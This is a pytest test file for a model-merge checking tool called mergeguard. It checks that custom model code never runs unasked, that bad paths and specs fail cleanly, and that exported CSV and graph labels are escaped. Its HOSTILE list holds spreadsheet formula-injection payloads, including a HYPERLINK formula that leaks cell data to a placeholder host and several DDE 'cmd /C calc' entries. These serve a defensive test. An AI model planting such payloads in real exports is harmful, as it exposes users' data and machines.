"""Fail closed (issue 20, items 4, 9, 10, 11): no model code runs unasked, a path is never sent to the Hub,
unusable databases and wrongly typed benchmark specs are one-line errors, and CSV, Mermaid and DOT output
cannot be broken or turned into formulas by a model's name. Each test feeds the input that broke it."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mergeguard.cli import main
from mergeguard.db import (
    EvaluationRow,
    ResultsFile,
    lineage,
    open_db,
    record_evaluations,
    record_merge,
    render_lineage,
)
from mergeguard.errors import DatabaseError, MergeguardError, ModelCodeError
from mergeguard.refs import custom_code, looks_local, require_no_custom_code

CUSTOM_CODE = "from pathlib import Path\nPath({marker!r}).write_text('ran')\n"
CUSTOM_CODE += "from transformers import LlamaConfig as EvilConfig, LlamaForCausalLM as EvilModel\n"


def _digests(folder: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()
    }


def _one_error_line(text: str) -> str:
    """The CLI's error: exactly one `error: ...` line and no traceback."""
    assert "Traceback" not in text
    lines = [line for line in text.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1, text
    return lines[0]


@pytest.fixture
def custom_code_model(models, tmp_path: Path) -> tuple[Path, Path]:
    """A tiny llama whose config.json maps its classes to `evil.py` (a model type transformers does not
    ship), as a hub repository with custom code does; `evil.py` writes a marker file when it runs."""
    folder = tmp_path / "evil"
    shutil.copytree(models.base("llama", seed=5), folder)
    config = json.loads((folder / "config.json").read_text())
    config["model_type"] = "evilmodel"
    config["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel"}
    (folder / "config.json").write_text(json.dumps(config))
    marker = tmp_path / "MARKER"
    (folder / "evil.py").write_text(CUSTOM_CODE.format(marker=str(marker)))
    return folder, marker


def _run_in_terminal(
    args: list[str], cwd: Path, env: dict[str, str], timeout: float = 120
) -> tuple[int, str]:
    """Run the CLI with a pseudo-terminal as stdin/stdout, answering `y` to any prompt (transformers asks
    "run the custom code? [y/N]" only when stdin is a terminal)."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: become the command
        os.chdir(cwd)
        os.execve(sys.executable, [sys.executable, "-m", "mergeguard", *args], env)
    output, answered, deadline = b"", 0, time.monotonic() + timeout
    os.write(fd, b"y\n")
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 1.0)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        output += chunk
        if output.count(b"[y/N]") > answered:
            answered += 1
            os.write(fd, b"y\n")
    else:
        os.kill(pid, 9)
    _, status = os.waitpid(pid, 0)
    text = output.decode(errors="replace").replace("\x1b[2K", "\n")  # a transient bar erased: a new line
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", text)
    return os.waitstatus_to_exitcode(status), text


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = dict(os.environ, HF_HOME=str(tmp_path / "hf"), HF_MODULES_CACHE=str(tmp_path / "hf-modules"))
    env.update(MERGEGUARD_DB=str(tmp_path / "t.db"), NO_COLOR="1", **extra)
    return env


# ---------------------------------------------------------------- 1. no model code runs unasked


def test_check_in_a_terminal_answering_yes_does_not_run_model_code(custom_code_model, tmp_path: Path) -> None:
    folder, marker = custom_code_model
    before = _digests(folder)
    code, out = _run_in_terminal(["check", str(folder), "--max-tokens", "16"], tmp_path, _env(tmp_path))
    assert code == 2, out
    line = _one_error_line(out.replace("\r", ""))
    assert "needs custom code" in line and "auto_map in its config.json" in line
    assert "pass --trust-remote-code" in line
    assert "[y/N]" not in out and not marker.exists()
    assert _digests(folder) == before


def test_trust_remote_code_is_what_lets_it_run(custom_code_model, tmp_path: Path) -> None:
    folder, marker = custom_code_model
    args = [sys.executable, "-m", "mergeguard", "check", str(folder), "--max-tokens", "8", "--json"]
    done = subprocess.run(
        [*args, "--trust-remote-code"], env=_env(tmp_path), capture_output=True, text=True, timeout=180
    )
    assert done.returncode in (0, 3, 4) and marker.exists(), done.stderr[-2000:]  # the user asked
    assert json.loads(done.stdout)["model"] == str(folder)


def test_eval_refuses_model_code_before_lm_eval_starts(custom_code_model, capsys) -> None:
    folder, marker = custom_code_model
    assert main(["eval", str(folder), "--tasks", "arc_challenge", "--limit", "1"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "needs custom code" in line and "--trust-remote-code" in line
    assert not marker.exists()


def test_what_counts_as_custom_code(models, tmp_path: Path) -> None:
    native = tmp_path / "native"
    shutil.copytree(models.base("llama", seed=5), native)
    config = json.loads((native / "config.json").read_text())
    # an auto_map beside a model type transformers ships: loaded by the library's own class, nothing runs
    (native / "config.json").write_text(json.dumps({**config, "auto_map": {"AutoConfig": "x.Y"}}))
    assert custom_code(native) is None
    require_no_custom_code(native)
    tokenizer_config = json.loads((native / "tokenizer_config.json").read_text())
    tokenizer_config.update(tokenizer_class="EvilTokenizer", auto_map={"AutoTokenizer": ["t.Evil", None]})
    (native / "tokenizer_config.json").write_text(json.dumps(tokenizer_config))
    assert custom_code(native) == "tokenizer_config.json"
    with pytest.raises(ModelCodeError, match="auto_map in its tokenizer_config.json"):
        require_no_custom_code(native)
    require_no_custom_code(native, trust_remote_code=True)
    (native / "config.json").write_text("[1, 2]")
    with pytest.raises(MergeguardError, match="holds a JSON list, not an object"):
        custom_code(native)


# ---------------------------------------------------------------- 2. local before remote


def test_a_mistyped_local_path_is_not_sent_to_the_hub(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    (tmp_path / "models" / "ft-math").mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    for typo in ("models/ft-mathh", "models/sub/ft", "./ft-math", ".ft-math", "~/no-such-mergeguard-model"):
        started = time.monotonic()
        assert main(["check", typo]) == 2
        line = _one_error_line(capsys.readouterr().err)
        assert f"model folder {typo} not found" in line and "Hugging Face" not in line
        assert time.monotonic() - started < 2
    assert looks_local("models/ft-mathh") and looks_local("models/a/b") and looks_local(".hidden")
    assert not looks_local("someorg/some-model")  # no `someorg/` here: a hub id
    assert not looks_local("a" * 5000 + "/b")  # a name the OS refuses is not a local path


def _timed_lookup(tmp_path: Path, ref: str, **env: str) -> tuple[float, str]:
    """Resolve `ref` in a fresh interpreter (the Hub client reads its settings at import) and time only the
    lookup."""
    code = (
        "import sys, time\nfrom mergeguard.refs import resolve_model\nfrom mergeguard.errors import "
        "MergeguardError\nstart = time.monotonic()\ntry:\n    resolve_model(sys.argv[1])\n"
        "except MergeguardError as error:\n    print(f'{time.monotonic() - start:.3f}', error)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, ref],
        env=_env(tmp_path, **env),
        capture_output=True,
        text=True,
        timeout=120,
    )
    seconds, _, message = done.stdout.strip().partition(" ")
    assert seconds, done.stderr[-2000:]
    return float(seconds), message


def test_offline_hub_lookups_fail_fast(tmp_path: Path) -> None:
    seconds, message = _timed_lookup(tmp_path, "someorg/not-cached-model", HF_HUB_OFFLINE="1")
    assert seconds < 2 and "not in the local Hugging Face cache and HF_HUB_OFFLINE is set" in message
    # no network at all (nothing listens on the endpoint): one quick failure, no retry storm
    seconds, message = _timed_lookup(tmp_path, "someorg/not-cached-model", HF_ENDPOINT="http://127.0.0.1:9")
    assert seconds < 5 and "cannot fetch model someorg/not-cached-model" in message


# ---------------------------------------------------------------- 3. databases


def _results_file(tmp_path: Path) -> Path:
    path = tmp_path / "results.json"
    config = {"model_args": "pretrained=org/model"}
    metrics = {"arc_challenge": {"acc,none": 0.5, "acc_norm,none": 0.55, "alias": "arc_challenge"}}
    path.write_text(json.dumps({"config": config, "results": metrics}))
    return path


def test_unusable_database_paths_are_one_line_errors(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    results = _results_file(tmp_path)
    (tmp_path / "folder.db").mkdir()
    cases = [
        (["leaderboard", "--db", "/dev/null"], "/dev/null is not a regular file"),
        (["import", str(results), "--db", "/dev/null"], "/dev/null is not a regular file"),
        (["leaderboard", "--db", "typo/x.db"], "no database at typo/x.db"),
        (["lineage", "org/model", "--db", "typo/x.db"], "no database at typo/x.db"),
        (["history", "--db", "typo/x.db"], "no database at typo/x.db"),
        (["leaderboard", "--db", "folder.db"], "folder.db is a folder, not a database file"),
        (["import", str(results), "--db", "folder.db"], "folder.db is a folder, not a database file"),
    ]
    for args, message in cases:
        assert main(args) == 2, args
        assert message in _one_error_line(capsys.readouterr().err)
    assert not (tmp_path / "typo").exists()  # a read command created nothing
    with pytest.raises(DatabaseError, match="no database at"):
        open_db(tmp_path / "missing.db", write=False)


def _make_read_only(paths: list[Path]) -> None:
    """Make files and folders unwritable for this process: immutable (chattr +i) when running as root,
    which ignores file modes, else modes 444 / 555."""
    for path in paths:
        if os.geteuid() != 0:
            path.chmod(0o555 if path.is_dir() else 0o444)
        elif shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(path)]).returncode:
            pytest.skip("root cannot make a read-only file here (no chattr +i)")


def _make_writable(paths: list[Path]) -> None:
    for path in paths:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(path)], check=False)
        path.chmod(0o755 if path.is_dir() else 0o644)


@pytest.fixture
def read_only_db(tmp_path: Path):
    """A real database file the process cannot write, in a folder it can."""
    path = tmp_path / "ro.db"
    assert main(["import", str(_results_file(tmp_path)), "--db", str(path)]) == 0
    try:
        _make_read_only([path])
        yield path
    finally:
        _make_writable([path])


def test_read_only_database_reads_and_refuses_writes(read_only_db: Path, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    before = hashlib.sha256(read_only_db.read_bytes()).hexdigest()
    assert main(["leaderboard", "--db", str(read_only_db), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["rows"][0]["model"] == "org/model"
    assert main(["history", "--db", str(read_only_db)]) == 0
    capsys.readouterr()
    other = tmp_path / "other" / "results.json"
    other.parent.mkdir()
    other.write_text(_results_file(tmp_path).read_text().replace("org/model", "org/other"))
    assert main(["import", str(other), "--db", str(read_only_db)]) == 2
    assert f"{read_only_db} is read-only" in _one_error_line(capsys.readouterr().err)
    assert hashlib.sha256(read_only_db.read_bytes()).hexdigest() == before


# ---------------------------------------------------------------- 4. benchmark spec types


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("files: 42", "`files` must be a path or a list of paths, not the number 42"),
        ("files: [1, 2]", "`files` holds the number 1, not a path"),
        ("files: {a: b}", "`files` must be a path or a list of paths, not a mapping"),
        ("files: []", "not an empty list"),
        ("files: ''", "`files` holds an empty text, not a path"),
        ("files: d.jsonl\nsplit: [1]", "`split` must be text, not a list"),
        ("files: d.jsonl\nsplit: 2024-01-01", "`split` must be text, not a date"),
        ("files: d.jsonl\ndescription: {a: 1}", "`description` must be text, not a mapping"),
        ("files: d.jsonl\nname: 42", "`name` must be text, not the number 42"),
    ],
)
def test_wrongly_typed_benchmark_spec(tmp_path: Path, capsys, body: str, message: str) -> None:
    spec = tmp_path / "spec.yaml"
    lines = {"name": "acme", "question": "q", **dict(line.split(": ", 1) for line in body.split("\n"))}
    spec.write_text("".join(f"{key}: {value}\n" for key, value in lines.items()), encoding="utf-8")
    assert main(["benchmarks", "list", "--benchmark-spec", str(spec)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert message in line
    if "files" in message:  # the hint's [brackets] survive the terminal's markup
        assert line.endswith("write `files: data/eval.jsonl` or `files: [a.jsonl, b.jsonl]`")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"name: acme\nquestion: q\nfiles: \xff\xfe.jsonl\n", "is not UTF-8 text (byte 30)"),
        (b"[" * 20000 + b"]" * 20000, "is nested too deeply"),
    ],
)
def test_unreadable_benchmark_spec(tmp_path: Path, capsys, content: bytes, message: str) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_bytes(content)
    assert main(["benchmarks", "list", "--benchmark-spec", str(spec)]) == 2
    assert message in _one_error_line(capsys.readouterr().err)


# ---------------------------------------------------------------- 5. output escaping

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx=1",
    'two\nlines "quoted" [bracketed] {braced} (paren) |pipe| #hash; <b>tag</b> %% --> end',
]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A merge whose output and parents carry the names a hostile or careless user can give a folder."""
    path = tmp_path / "hostile.db"
    db = open_db(path)
    parents = [(f"org/p{i}", "merge", 0.5) for i in range(len(HOSTILE) - 1)]
    record_merge(db, output="org/child", config_text="x", method="linear", parents=parents, name=HOSTILE[-1])
    for i, name in enumerate(HOSTILE[:-1]):
        db.execute("UPDATE models SET name = ? WHERE ref = ?", [name, f"org/p{i}"])
    for ref in ["org/child", *(ref for ref, _, _ in parents)]:
        row = EvaluationRow("arc_challenge", "acc_norm", 0.5, benchmark="arc_challenge", is_primary=True)
        record_evaluations(db, ResultsFile(path=f"{ref}.json", sha256=ref, model_ref=ref, rows=[row]))
    db.conn.close()
    return path


def test_csv_cells_cannot_become_formulas(hostile_db: Path, capsys) -> None:
    assert main(["leaderboard", "--db", str(hostile_db), "--format", "csv", "--limit", "0"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = {row["model"] for row in rows}
    assert names == {"'" + name for name in HOSTILE[:-1]} | {HOSTILE[-1]}
    for row in rows:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert main(["history", "--db", str(hostile_db), "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    from mergeguard.db.render import csv_cell

    assert csv_cell("-1.5") == "-1.5" and csv_cell("+3") == "+3" and csv_cell(-2.0) == -2.0


def _labels(graph_text: str, pattern: str) -> list[str]:
    return [match.group(1) for match in re.finditer(pattern, graph_text)]


def test_mermaid_and_dot_labels_stay_valid(hostile_db: Path) -> None:
    db = open_db(hostile_db)
    graph = lineage(db, HOSTILE[-1])
    expected = {" ".join(node.model.replace("\t", " ").splitlines()) for node in graph.nodes}

    mermaid = render_lineage(graph, "mermaid")
    statement = r'n\d+\["[^"\n\[\]|]*"\]|n\d+ -->\|[^|\n"]*\| n\d+|classDef .*|class [n\d,]+ \w+'
    lines = mermaid.splitlines()
    assert lines[0] == "flowchart TD"
    assert all(re.fullmatch(rf"    (?:{statement})", line) for line in lines[1:]), mermaid
    decoded = [
        re.sub(r"#(\d+);", lambda m: chr(int(m.group(1))), label) for label in _labels(mermaid, r'\["(.*)"\]')
    ]
    assert {text for text in expected if any(label.startswith(text + " ") for label in decoded)} == expected

    dot = render_lineage(graph, "dot")
    quoted = r'"((?:[^"\\\n]|\\.)*)"'
    lines = dot.splitlines()
    assert lines[:3] == ["digraph lineage {", "  rankdir=TB;", "  node [shape=box];"] and lines[-1] == "}"
    node = rf"  n\d+ \[label={quoted}(?:, style=filled, fillcolor=\"#ffdddd\")?(?:, penwidth=2)?\];"
    edge = rf"  n\d+ -> n\d+ \[label={quoted}\];"
    assert all(re.fullmatch(f"{node}|{edge}", line) for line in lines[3:-1]), dot
    decoded = [re.sub(r"\\(.)", r"\1", label) for label in _labels(dot, rf"\[label={quoted}")]
    assert {text for text in expected if any(label.startswith(text + " ") for label in decoded)} == expected


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("test.jsonl.gz", gzip.compress(b'{"question": "a", "answer": "b"}\n')[:20], "Compressed file ended"),
        ("test.jsonl", b'{"question": "a", "answer": "#### 1"}\n{"question": "a",}\n', "line 2 is not JSON"),
        (
            "test.jsonl",
            b'{"question": "a", "answer": "#### 1"}\n\n{"question": "\xff"}\n',
            "line 3 is not UTF-8",
        ),
        ("test.json", b'{"data": 5}', "holds a JSON int where a list of rows belongs"),
        ("test.parquet", b"PAR1 garbage", "cannot read"),
    ],
)
def test_broken_benchmark_files(tmp_path: Path, capsys, name: str, content: bytes, message: str) -> None:
    (tmp_path / "gsm8k").mkdir()
    (tmp_path / "gsm8k" / name).write_bytes(content)
    assert main(["benchmarks", "show", "gsm8k", "--benchmarks-dir", str(tmp_path), "--limit", "1"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert f"cannot read {tmp_path / 'gsm8k' / name}" in line and message in line


def test_imported_scores_are_finite_and_dates_bounded(tmp_path: Path, capsys) -> None:
    path = tmp_path / "results.json"
    metrics = {"arc_challenge": {"acc,none": 1e999, "acc_norm,none": 0.5}}
    path.write_text(
        json.dumps({"config": {"model_args": "pretrained=org/m"}, "date": 1e300, "results": metrics})
    )
    db_file = tmp_path / "scores.db"
    assert main(["import", str(path), "--db", str(db_file)]) == 0
    assert "(1 metrics)" in capsys.readouterr().out  # the infinite one is not a score
    rows = open_db(db_file).execute("SELECT metric, value FROM evaluations").fetchall()
    assert rows == [("acc_norm", 0.5)]


def test_database_in_a_read_only_folder(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "shared"
    db = open_db(folder / "team.db")
    db.conn.close()  # the last connection closing folds the WAL back in and removes -wal and -shm
    locked = [folder / "team.db", folder]
    try:
        _make_read_only(locked)
        assert main(["leaderboard", "--db", str(folder / "team.db")]) == 2
        line = _one_error_line(capsys.readouterr().err)
        assert "team.db cannot be opened" in line and "make its folder writable" in line
    finally:
        _make_writable(locked)


@pytest.mark.parametrize("kind", ["fifo", "loop", "folder"])
def test_config_json_that_is_not_a_regular_file_is_named(tmp_path: Path, kind: str) -> None:
    """A FIFO would block a read forever; a loop or a folder used to pass as 'no config'."""
    from mergeguard.refs import read_config

    config = tmp_path / "config.json"
    if kind == "fifo":
        os.mkfifo(config)
    elif kind == "loop":
        config.symlink_to(config)
    else:
        config.mkdir()
    with pytest.raises(MergeguardError, match=r"config\.json is not a regular file; replace it"):
        read_config(tmp_path)
